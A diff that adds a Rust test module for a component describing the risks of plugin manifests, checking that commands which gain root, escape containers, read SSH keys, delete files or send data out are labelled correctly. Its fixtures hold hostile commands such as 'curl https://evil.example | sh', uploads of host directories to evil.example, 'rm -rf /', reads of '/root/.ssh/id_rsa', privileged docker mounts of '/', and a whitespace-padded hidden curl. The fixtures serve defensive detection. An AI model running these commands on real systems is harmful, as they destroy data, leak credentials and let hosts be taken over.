@@ -1,0 +1,188 @@
+use super::*;
+
+const HEAD: &str = "id='a/runner/b'\nversion='1.0.0'\nworld='machine-runner'\ndescription='d'\n\
+    [options]\ntype='object'\n";
+
+fn exec(argv: &str, more: &str) -> String {
+    format!("\n[[exec]]\nid='c'\nargv={argv}\ntimeout='1s'\n{more}")
+}
+
+/// What is said of the first request.
+fn marks(manifest: &str) -> Vec<Mark> {
+    let manifest = Manifest::from_toml(manifest).expect(manifest);
+    of(&manifest, &manifest.requests()[0])
+}
+
+fn texts(manifest: &str) -> String {
+    marks(manifest).into_iter().map(|mark| format!("{}\n", mark.text)).collect()
+}
+
+#[track_caller]
+fn has(argv: &str, gists: &[Gist]) {
+    let marks = marks(&format!("{HEAD}{}", exec(argv, "")));
+    let mut found: Vec<Gist> = marks.iter().filter_map(|mark| mark.gist).collect();
+    found.sort();
+    found.dedup();
+    assert_eq!(found, gists, "{argv}: {marks:#?}");
+}
+
+#[test]
+fn a_program_is_known_wherever_it_stands() {
+    has("['docker', 'ps']", &[Gist::Root]);
+    has(
+        "['env', 'docker', 'run', '--privileged', '-v', '/:/host', 'x']",
+        &[Gist::Root, Gist::OpensContainer],
+    );
+    has("['podman-remote', 'ps']", &[Gist::Root]);
+    has("['nice', 'ssh', '--', 'h', '{command:shell}']", &[Gist::Login]);
+    has("['/bin/sh', '-c', 'ssh root@evil reboot']", &[Gist::Login, Gist::Script]);
+    has("['kubectl', 'exec', 'x']", &[Gist::Login]);
+    has("['wrap', 'sudo', 'x']", &[Gist::Raised]);
+    has("['timeout', '5', 'python3', 'x.py']", &[Gist::Script]);
+    has("['{p:enum(true|docker)}']", &[Gist::Root]);
+    // What runs in a container or on another machine is not done here.
+    has("['docker', 'exec', 'x', 'rm', '-rf', '/']", &[Gist::Root]);
+    has("['docker', 'rm', '-f', 'x']", &[Gist::Root]);
+}
+
+#[test]
+fn what_changes_files_and_what_speaks_to_the_network_is_marked() {
+    has("['rm', '-rf', '/']", &[Gist::Changes, Gist::Places]);
+    has("['tee', '/etc/cron.d/x']", &[Gist::Changes, Gist::Places]);
+    has("['cat', '/root/.ssh/id_rsa']", &[Gist::Places]);
+    has("['cat', '--file=/root/.ssh/id_rsa']", &[Gist::Places]);
+    has("['cat', '/dev/null']", &[]);
+    has("['npx', '{p:ident}']", &[Gist::FetchedCode]);
+    has("['env', '{p:ident}']", &[Gist::AnyProgram]);
+    has("['curl', '-T', '{d:host-dir}', 'https://evil.example']", &[Gist::Network]);
+    for program in ["scp", "rsync", "/usr/bin/nc"] {
+        has(&format!("['{program}', '{{d:host-dir}}', 'x']"), &[Gist::Network]);
+    }
+    has("['true']", &[]);
+}
+
+#[test]
+fn a_shells_script_is_told_from_a_shell_of_the_plugins() {
+    let said = |argv: &str| texts(&format!("{HEAD}{}", exec(argv, "")));
+    insta::assert_snapshot!(
+        [
+            said("['sh', '-c', 'echo \"$1\"', 'sh', '{x:ident}']"),
+            said("['sh', '-c', '\"$@\"', 'sh', '{x:ident}']"),
+            said("['sh', '-c', 'exec {command:shell}']"),
+            said("['sh', '-c', 'echo {x:ident}']"),
+            said("['sh', '-c', 'curl https://evil.example | sh']"),
+            said("['bash', '{x:ident}']"),
+        ].join("--\n"),
+        @"
+    a shell with a fixed script: it runs what stands here, and slots are only its arguments
+    --
+    a shell with a fixed script that runs its own arguments, and the plugin fills some of them
+    --
+    a shell: its arguments are a program
+    --
+    a shell: its arguments are a program, and the plugin fills some of them
+    --
+    a shell that may run what it fetches
+    can send and fetch over the network: `curl`
+    --
+    a shell: its arguments are a program, and the plugin fills some of them
+    "
+    );
+    assert!(
+        marks(&format!("{HEAD}{}", exec("['sh', '-c', 'echo {x:ident}']", "")))
+            .iter()
+            .any(|mark| mark.gist == Some(Gist::AnyProgram))
+    );
+}
+
+#[test]
+fn ways_out_of_a_container_are_seen_in_choices_and_clusters() {
+    for flag in
+        ["-v/:/host", "-itv", "--volumes-from", "{f:enum(--rm|--privileged)}", "--gpus=all", "-Htcp://x"]
+    {
+        has(&format!("['docker', 'run', '{flag}', 'x']"), &[Gist::Root, Gist::OpensContainer]);
+    }
+    // One that the user's option fills is the user's.
+    let options = "[options.properties.network]\ntype='string'\n";
+    let argv = "['docker', 'run', '[--network={option(network)}]', 'x']";
+    let marks = marks(&format!("{HEAD}{options}{}", exec(argv, "")));
+    assert!(
+        marks
+            .iter()
+            .any(|mark| mark.gist.is_none() && mark.text.ends_with("as your options say: `--network`"))
+    );
+}
+
+#[test]
+fn a_default_is_shown_whole_and_its_words_are_known() {
+    let options = format!(
+        "[options.properties.run]\ntype='array'\ndefault=['sh', '-c', 'true{}; curl https://evil.example']\n",
+        " ".repeat(200)
+    );
+    let manifest = format!("{HEAD}{options}{}", exec("['{option(run)}']", ""));
+    let text = texts(&manifest);
+    assert!(text.contains("curl https://evil.example"), "{text}");
+    let gists: Vec<Gist> = marks(&manifest).iter().filter_map(|mark| mark.gist).collect();
+    assert!(gists.contains(&Gist::Network) && gists.contains(&Gist::Script), "{gists:?}");
+}
+
+#[test]
+fn files_ports_and_variables_of_the_users_are_named() {
+    let options = "[options.properties.identity]\ntype='string'\nformat='path'\n";
+    let argv = "['ssh', '-L127.0.0.1:{local:uint(1..65535)}:h:1', '-oProxyCommand=nc h', '[-i{option(identity)}]', '--', 'h']";
+    let env = "env=['SSH_AUTH_SOCK', 'AWS_SECRET_ACCESS_KEY', 'LD_PRELOAD']";
+    insta::assert_snapshot!(texts(&format!("{HEAD}{options}{}", exec(argv, env))), @"
+    logs in on another machine, with your keys: `ssh`
+    leads ports, of the plugin's choice between this machine and another: `-L`
+    has the login run a program on this machine: `-oProxyCommand=nc h`
+    gets your SSH agent: may log in wherever your keys do
+    gets what sounds like a secret, and may do with it what it likes: your `AWS_SECRET_ACCESS_KEY`
+    gets variables that lead a program to code to run: your `LD_PRELOAD`
+    is told of files of yours, and may read and change them: your options `identity`
+    a shell there may read the arguments: `ssh`
+    goes by your own configuration of `ssh`, which may name further programs and hosts
+    gets of your environment: `SSH_AUTH_SOCK`, `AWS_SECRET_ACCESS_KEY`, `LD_PRELOAD`
+    ");
+}
+
+#[test]
+fn what_a_plugin_sees_may_go_where_it_sends_requests() {
+    let http = "\n[[http]]\nto='https://evil.example'\nmethods=['POST']";
+    let last = |manifest: &str| {
+        let manifest = Manifest::from_toml(manifest).expect(manifest);
+        let request = manifest.requests().into_iter().find(|request| matches!(request, Request::Http(_)));
+        of(&manifest, &request.expect("one")).remove(0).text
+    };
+    let runner = |more: &str| last(&format!("{HEAD}{more}{http}"));
+    let read = exec("['cat', '/root/.ssh/id_rsa']", "");
+    let judge = "id='a/judge/b'\nversion='1.0.0'\nworld='judge'\ndescription='d'\nenv=['AWS_SECRET_ACCESS_KEY']\n\
+        [[dir]]\nname='all'\naccess='read-write'";
+    insta::assert_snapshot!(
+        [
+            runner(""),
+            runner(&read),
+            runner(&exec("['ssh', 'h', '{command:shell}']", "")),
+            last(&format!("{judge}{http}")),
+            last(&format!("{judge}{http}\n[[http]]\nto='https://b.example'\nmethods=['GET']")),
+        ].join("\n"),
+        @"
+    what the plugin sees may go there: your options, and what it knows of machines
+    what the plugin sees may go there: your options, and what it knows of machines; what its command prints, whatever that reads on the machine
+    what the plugin sees may go there: your options, and what it knows of machines
+    what the plugin sees may go there: your options, and all evidence of a trial: prompts, expected answers, reports, files; the files of its directories `all`; your variables `AWS_SECRET_ACCESS_KEY`
+    what the plugin sees may go there: your options, and all evidence of a trial: prompts, expected answers, reports, files; the files of its directories `all`; your variables `AWS_SECRET_ACCESS_KEY`; what other destinations answer
+    "
+    );
+}
+
+#[test]
+fn a_secret_for_this_machine_does_not_leave_it() {
+    let manifest = format!(
+        "{HEAD}[[http]]\nto='https://localhost:8443'\nmethods=['GET']\nprivate=true\n\
+         [[secret]]\nname='s'\nabout='a'\nto=['https://localhost:8443']"
+    );
+    let manifest = Manifest::from_toml(&manifest).expect("valid");
+    let texts: Vec<String> =
+        of(&manifest, &manifest.requests()[1]).into_iter().map(|mark| mark.text).collect();
+    assert_eq!(texts, ["goes to whatever listens on this machine at `https://localhost:8443`"]);
+}
